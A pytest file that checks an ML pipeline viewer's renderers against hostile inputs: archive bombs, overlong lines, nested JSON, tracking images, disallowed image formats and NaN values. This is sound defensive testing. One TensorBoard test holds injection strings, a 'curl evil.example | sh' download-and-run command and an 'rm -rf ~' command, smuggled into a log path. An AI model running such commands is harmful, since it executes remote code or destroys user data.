"""Hostile inputs against the renderers, as pure functions (issue 8; docs/security.md).

Each test names a budget: bytes unpacked, a line's length, JSON nesting, a
Markdown size, image formats, non-finite numbers. Memory is measured with
tracemalloc, which sees every bytes object zlib, bz2 and tarfile create. The
same inputs go through the real worker in tests/runs/test_security_live.py.
"""

import bz2
import gzip
import io
import json
import lzma
import math
import tarfile
import tracemalloc

import pytest
from PIL import Image

from runs import kinds
from runs.rendering import (
    archive,
    confusion_matrix,
    image,
    kfp_metadata,
    markdown,
    metrics,
    progress,
    roc,
    table,
    tensorboard,
)
from runs.rendering.base import BytesSource, Context, RenderError, human_bytes
from runs.rendering.registry import render_artifact
from tests.runs.rendering import files

MiB = 1024 * 1024


def ctx():
    stored = {}

    def store(name, data, content_type):
        stored[name] = data
        return name

    return Context(store=store, store_source=lambda s: {"bucket": "b", "key": "k", "etag": "e"})


def peak_of(fn):
    """(result or exception, peak bytes Python allocated while ``fn`` ran)."""
    tracemalloc.start()
    try:
        try:
            result = fn()
        except Exception as exc:  # noqa: BLE001 - the caller inspects it
            result = exc
        return result, tracemalloc.get_traced_memory()[1]
    finally:
        tracemalloc.stop()


def only_output(data: bytes, name="data.tgz", kind=kinds.KFP_ARCHIVE):
    (out,) = render_artifact(BytesSource(name, data), kind, ctx())
    return out


# --- archives ------------------------------------------------------------------------


@pytest.mark.parametrize(
    "compress, what",
    [
        (lambda raw: bz2.compress(raw), "bzip2"),
        (lambda raw: lzma.compress(raw), "xz"),
        (lambda raw: raw, "not compressed"),
    ],
)
def test_only_gzip_archives_are_read(compress, what):
    out = only_output(compress(files.tar_plain({"data.csv": b"a\n1\n"})))
    assert out.failed and "gzip" in out.error and what in out.error, out.error


def test_the_bzip2_long_name_bomb_costs_nothing():
    out, peak = peak_of(lambda: only_output(files.BZ2_LONGNAME_BOMB))
    assert out.failed and "gzip" in out.error
    assert peak < 4 * MiB


@pytest.mark.parametrize("kind, label", [(tarfile.GNUTYPE_LONGNAME, "long-name"), (tarfile.XHDTYPE, "pax")])
def test_extended_header_bombs_are_refused_before_their_payload_is_read(kind, label):
    bomb = files.tar_extended_bomb(128 * MiB, kind=kind)  # ~130 KB of gzip
    assert len(bomb) < 200_000
    out, peak = peak_of(lambda: only_output(bomb))
    assert out.failed and f"{label} header" in out.error and human_bytes(128 * MiB) in out.error, out.error
    assert peak < 8 * MiB, f"{peak / MiB:.1f} MiB"


def test_unpacking_stops_at_the_byte_budget(settings):
    settings.ARCHIVE_MAX_UNPACKED_BYTES = 1 * MiB
    settings.ARCHIVE_MAX_MEMBER_BYTES = 10 * MiB
    data = files.tgz({f"part-{i}.csv": b"x" * (600 * 1024) for i in range(3)})
    out = only_output(data)
    assert out.failed and f"unpacks to more than {human_bytes(MiB)}" in out.error, out.error


def test_the_budget_reader_never_holds_more_than_its_budget():
    reader = archive.BoundedGzipReader(gzip.compress(b"\0" * (64 * MiB)), budget=2 * MiB)
    result, peak = peak_of(lambda: reader.read(1024**3))  # a tar header asking for 1 GiB
    assert isinstance(result, RenderError) and f"more than {human_bytes(2 * MiB)}" in str(result)
    assert peak < 6 * MiB


def test_sparse_members_and_header_chains_are_refused():
    out = only_output(files.tgz_sparse())
    assert out.failed and "sparse" in out.error, out.error
    # Today's tarfile recurses once per pax header: 400 in a row was a RecursionError.
    out = only_output(files.tgz_pax_chain(400))
    assert out.failed and "extended headers" in out.error, out.error
    ok = only_output(files.tgz_pax_chain(2))
    assert not ok.failed and ok.title == "a.c"  # the pax path record named it


def test_a_normal_kfp_archive_still_unpacks():
    out = only_output(
        files.tgz({"mlpipeline-metrics.json": files.metrics_json()}), "mlpipeline-metrics.tgz", kinds.METRICS
    )
    assert not out.failed and out.viewer == "metrics"


# --- CSV lines ------------------------------------------------------------------------


def endless_line(total: int, step: int = 64 * 1024):
    chunk = b"x" * step
    for _ in range(total // step):
        yield chunk


@pytest.mark.timeout(60)  # a hang guard: the quadratic copy this replaced took minutes here
def test_index_refuses_a_line_longer_than_the_budget_in_linear_time(settings):
    settings.TABLE_MAX_LINE_BYTES = 4 * MiB
    result, peak = peak_of(lambda: table.build_index(endless_line(64 * MiB), 512 * 1024))
    assert (
        isinstance(result, RenderError) and "line" in str(result) and human_bytes(4 * MiB) in str(result)
    ), result
    assert peak < 12 * MiB, f"{peak / MiB:.1f} MiB"


def test_lines_refuse_a_line_longer_than_the_budget(settings):
    settings.TABLE_MAX_LINE_BYTES = 1 * MiB
    result, peak = peak_of(lambda: list(table.iter_lines(endless_line(32 * MiB))))
    assert isinstance(result, RenderError) and human_bytes(MiB) in str(result)
    assert peak < 6 * MiB
    assert list(table.iter_lines([b"a,b\n1,", b"2\n3,4"])) == ["a,b\n", "1,2\n", "3,4"]


def test_a_table_that_is_one_long_line_fails_with_a_reason(settings):
    settings.TABLE_MAX_LINE_BYTES = 1 * MiB
    with pytest.raises(RenderError, match="line"):
        table.render(BytesSource("t.csv", b"a," * (2 * MiB)), ctx())


# --- JSON and metadata ------------------------------------------------------------------


def test_deeply_nested_json_is_a_reason_not_a_crash():
    deep = ("[" * 100_000 + "]" * 100_000).encode()
    for renderer in (kfp_metadata.render, metrics.render):
        with pytest.raises(RenderError, match="nested"):
            renderer(BytesSource("mlpipeline-ui-metadata.json", deep), ctx())
    with pytest.raises(RenderError, match="nested"):
        progress.parse('{"current": 1, "total": 2, "x": ' + "[" * 100_000 + "]" * 100_000 + "}")


def test_json_files_have_their_own_size_budget(settings):
    settings.JSON_MAX_BYTES = 1024
    doc = json.dumps(
        {"version": 1, "outputs": [{"type": "markdown", "storage": "inline", "source": "x" * 2000}]}
    ).encode()
    with pytest.raises(RenderError, match=human_bytes(1024)):
        kfp_metadata.render(BytesSource("mlpipeline-ui-metadata.json", doc), ctx())


# --- Markdown, TensorBoard ---------------------------------------------------------------


def test_markdown_has_its_own_size_budget(settings):
    settings.MARKDOWN_MAX_BYTES = 64 * 1024
    with pytest.raises(RenderError, match=human_bytes(64 * 1024)):
        markdown.render(BytesSource("notes.md", b"![" * 40_000), ctx())


def test_remote_images_in_markdown_become_links(settings):
    settings.MARKDOWN_ALLOW_REMOTE_IMAGES = False
    html = markdown.to_html("see ![the loss curve](https://tracker.example/pixel.png?u=1) here")
    assert "<img" not in html
    assert 'href="https://tracker.example/pixel.png?u=1"' in html and "the loss curve" in html
    settings.MARKDOWN_ALLOW_REMOTE_IMAGES = True
    assert '<img src="https://tracker.example/pixel.png?u=1"' in markdown.to_html(
        "![x](https://tracker.example/pixel.png?u=1)"
    )


def test_stored_markdown_html_loses_remote_images_when_shown(settings):
    from runs.templatetags.viewers import clean_html

    settings.MARKDOWN_ALLOW_REMOTE_IMAGES = False
    assert "<img" not in clean_html('<p><img src="https://tracker.example/p.png" alt="x"></p>')


def test_tensorboard_command_quotes_the_log_directory():
    out = tensorboard.output("s3://bucket/run 1/logs; curl evil.example | sh")
    assert out.payload["command"] == "tensorboard --logdir 's3://bucket/run 1/logs; curl evil.example | sh'"
    assert (
        tensorboard.output("s3://bucket/logs").payload["command"] == "tensorboard --logdir s3://bucket/logs"
    )
    with pytest.raises(RenderError, match="control character"):
        tensorboard.output("s3://bucket/logs\n; rm -rf ~")


# --- images ---------------------------------------------------------------------------


def image_bytes(fmt: str, mode="RGB") -> bytes:
    out = io.BytesIO()
    Image.new(mode, (32, 24), 7).save(out, fmt)
    return out.getvalue()


@pytest.mark.parametrize("fmt", ["PPM", "TGA", "PCX", "EPS", "TIFF", "ICO"])
def test_only_allowed_image_formats_are_decoded(fmt):
    data = image_bytes(fmt)
    with pytest.raises(RenderError, match=r"images are decoded|formats that are decoded"):
        image.render(BytesSource("plot.png", data), ctx())


@pytest.mark.parametrize("fmt", ["PNG", "JPEG", "GIF", "WEBP", "BMP"])
def test_allowed_image_formats_still_render(fmt):
    (out,) = image.render(BytesSource("plot.img", image_bytes(fmt)), ctx())
    assert out.payload["format"] == fmt


def test_the_image_format_list_is_a_setting(settings):
    settings.IMAGE_FORMATS = ["PNG", "TIFF"]
    (out,) = image.render(BytesSource("scan.png", image_bytes("TIFF")), ctx())
    assert out.payload["format"] == "TIFF" and not out.payload["full_view"]


# --- poison values: NaN and Infinity ------------------------------------------------------


@pytest.mark.parametrize(
    "text",
    [
        "fpr,tpr,thresholds\n0,0,1\nnan,0.5,0.5\n1,1,0\n",
        "fpr,tpr,thresholds\n0,0,1\n0.5,inf,0.5\n1,1,0\n",
        "fpr,tpr,thresholds\n0,0,1\n0.5,-Infinity,0.5\n1,1,0\n",
    ],
)
def test_roc_refuses_non_finite_rates(text):
    with pytest.raises(RenderError, match="not a finite number"):
        roc.curve(text)


def test_roc_keeps_sklearn_infinite_first_threshold():
    c = roc.curve("fpr,tpr,thresholds\n0,0,inf\n0.5,0.8,0.5\n1,1,0\n")
    assert c["thresholds"][0] is None and c["auc"] == 0.65
    json.dumps(c, allow_nan=False)


@pytest.mark.parametrize(
    "text",
    [
        "target,predicted,count\na,a,nan\na,b,1\n",
        "target,predicted,count\na,a,inf\n",
        "target,predicted,count\na,a,1e308\na,b,1e308\n",
    ],
)
def test_confusion_matrix_refuses_non_finite_counts(text):
    with pytest.raises(RenderError, match="finite"):
        confusion_matrix.matrix(text)


@pytest.mark.parametrize(
    "doc",
    [
        '{"current": NaN, "total": 10}',
        '{"current": 1, "total": Infinity}',
        '{"current": "nan", "total": 10}',
        '{"current": 1, "total": "inf"}',
        '{"current": 1e999, "total": 10}',
    ],
)
def test_progress_refuses_non_finite_numbers(doc):
    with pytest.raises(RenderError, match="finite"):
        progress.parse(doc)


def test_metrics_and_metadata_refuse_json_non_finite_literals():
    with pytest.raises(RenderError, match="finite"):
        metrics.parse('{"metrics": [{"name": "loss", "numberValue": NaN}]}')
    with pytest.raises(RenderError, match="finite"):
        kfp_metadata.render(BytesSource("m.json", b'{"version": 1, "outputs": [], "x": -Infinity}'), ctx())
    # A string that is not finite is a skipped metric with a notice, as before.
    m = metrics.parse('{"metrics": [{"name": "a", "numberValue": "nan"}, {"name": "b", "numberValue": 1}]}')
    assert [x["name"] for x in m["metrics"]] == ["b"] and "finite" in m["notices"][0]


def test_sorting_a_column_with_nan_values_is_total():
    key = table._sort_key("number")
    rows = [["nan"], ["2"], ["inf"], ["1"], ["x"]]
    # NaN compares false with everything, so a key holding one makes the order arbitrary.
    assert not any(isinstance(k, float) and math.isnan(k) for r in rows for k in key(r, 0))
    assert [r[0] for r in sorted(rows, key=lambda r: key(r, 0))] == ["1", "2", "inf", "nan", "x"]


# --- found by the fuzz test (tests/runs/rendering/test_fuzz.py) ---------------------------


def test_charts_read_csv_with_carriage_returns():
    assert confusion_matrix.matrix("target,predicted,count\ra,a,3\ra,b,1\r")["counts"] == [[3, 1], [0, 0]]
    assert roc.curve("fpr,tpr\r\n0,0\r1,1\r")["auc"] == 0.5


@pytest.mark.parametrize(
    "output, reason",
    [
        ({"type": "confusion_matrix", "storage": "inline", "source": "a,a,1\n", "labels": 5}, "labels"),
        ({"type": "confusion_matrix", "storage": "inline", "source": "a,a,1\n", "labels": [None]}, "labels"),
        ({"type": "roc", "storage": "inline", "source": "0,0\n1,1\n", "schema": [{"name": None}]}, "schema"),
        ({"type": "roc", "storage": "inline", "source": "0,0\n1,1\n", "schema": ["fpr"]}, "schema"),
        ({"type": "table", "storage": "inline", "source": "1,2\n", "header": "a,b"}, "header"),
        ({"type": "table", "storage": "inline", "source": "1,2\n", "format": ["csv"]}, "not supported"),
        ({"type": ["roc"], "source": "x"}, "Unknown output type"),
    ],
)
def test_metadata_with_wrong_json_types_fails_that_output_with_a_reason(output, reason):
    doc = json.dumps(
        {"version": 1, "outputs": [output, {"type": "markdown", "storage": "inline", "source": "ok"}]}
    )
    bad, good = kfp_metadata.render(BytesSource("mlpipeline-ui-metadata.json", doc.encode()), ctx())
    assert bad.failed and reason in bad.error, bad.error
    assert not good.failed
